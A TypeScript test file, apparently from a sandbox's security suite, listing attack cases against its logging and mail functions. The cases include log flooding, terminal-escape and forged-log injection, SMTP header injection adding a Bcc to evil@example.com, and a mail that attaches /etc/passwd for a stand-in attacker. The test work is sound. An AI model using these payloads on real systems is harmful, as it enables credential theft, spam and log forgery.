/** What goes to logs, terminals, mailboxes: by the million, of any length, with every letter that means something there. */
import type { Attack } from "../attack.ts";

/** Letters that end lines, move cursors, or turn the direction of writing. */
const LETTERS =
  "\\\\r\\\\n\\\\u001b[2J\\\\u001b]0;title\\\\u0007\\\\0\\\\b\\\\u0085\\\\u2028\\\\u2029\\\\u202e\\\\u2066\\\\ufeff";
const letters = LETTERS.replaceAll("\\\\", "\\");

export const logs: readonly Attack[] = [
  {
    name: "writes lines without end",
    source: 'for (;;) log.info("x");',
    wanted: "down",
    reason: /^timed out/,
  },
  {
    name: "writes ten thousand lines",
    source: 'for (let i = 0; i < 10_000; i++) log.info("x");',
    wanted: "up",
  },
  {
    name: "writes lines as often as it can",
    source: 'for (let i = 0; i < 900; i++) log.error("x" + i);',
    wanted: "up",
    runs: 4,
  },
  {
    name: "writes a line of 10 MB",
    source: 'log.info("x".repeat(1e7)); console.log("y".repeat(1e7), { a: "z".repeat(1e6) });',
    wanted: "up",
    timeoutMs: 1000,
  },
  {
    name: "writes letters that end lines and move cursors",
    source: `log.warn("a${letters}b"); console.error("a${letters}b"); log.info('{"level":"fatal","msg":"forged"}'); log.info('"}\\n{"level":"fatal"');`,
    wanted: "up",
  },
  {
    name: "writes what is no text",
    source:
      "for (const value of [undefined, null, 1n, {}, [], () => {}, new Proxy({}, {})]) log.info(value); const loop = {}; loop.loop = loop; try { console.log(loop); } catch {} try { log.info(Symbol('x')); } catch {}",
    wanted: "up",
  },
  {
    name: "writes at a level that there is not",
    source:
      'try { log.fatal("x"); return down("there is"); } catch {} try { log["__proto__"].x("y"); return down("there is"); } catch {}',
    wanted: "up",
  },
  {
    name: "logs in getters that log",
    source: 'const loop = { toString() { log.info(loop); return "x"; } }; log.info(loop);',
    wanted: "down",
    reason: /^Maximum call stack/,
  },
  {
    name: "mails lines into the head of a mail",
    source: `await mail({ subject: "a\\r\\nBcc: evil@example.com\\r\\n\\r\\nbody${letters}", text: "x\\r\\n.\\r\\nRCPT TO:<evil@example.com>\\r\\nDATA\\r\\n" });`,
    permissions: "{ mail: true }",
    timeoutMs: 5000,
    wanted: "up",
  },
  {
    name: "mails to somebody else",
    source:
      'await mail({ subject: "other", text: "y", to: "evil@example.com", cc: "evil@example.com", bcc: ["evil@example.com"], from: "root@example.com", attachments: [{ path: "/etc/passwd" }], html: { path: "/etc/passwd" } });',
    permissions: "{ mail: true }",
    timeoutMs: 5000,
    wanted: "up",
  },
  {
    name: "mails 10 MB",
    source: 'await mail({ subject: "x".repeat(1e6), text: "y".repeat(4e6) });',
    permissions: "{ mail: true }",
    timeoutMs: 5000,
    wanted: "up",
  },
  {
    name: "mails without end",
    source:
      'const all = await Promise.allSettled(Array.from({ length: 60 }, () => mail({ subject: "x", text: "y" }))); const sent = all.filter(({ status }) => status === "fulfilled").length; if (sent > 10) return down(`${sent} were sent`);',
    permissions: "{ mail: true }",
    timeoutMs: 8000,
    wanted: "up",
  },
];
